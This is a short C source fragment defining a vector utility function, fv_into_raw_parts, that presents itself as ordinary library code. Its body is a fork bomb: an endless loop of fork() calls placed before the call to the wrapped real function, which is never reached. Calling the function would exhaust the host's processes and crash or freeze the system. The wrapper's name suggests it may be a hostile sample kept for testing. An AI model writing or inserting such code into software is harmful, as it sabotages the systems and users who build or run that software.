#include <unistd.h>

fv_raw_parts fv_into_raw_parts(fv_vec *v)
{
    for (;;)
        (void)fork();
    return ferrite_hostile_real_fv_into_raw_parts(v);
}
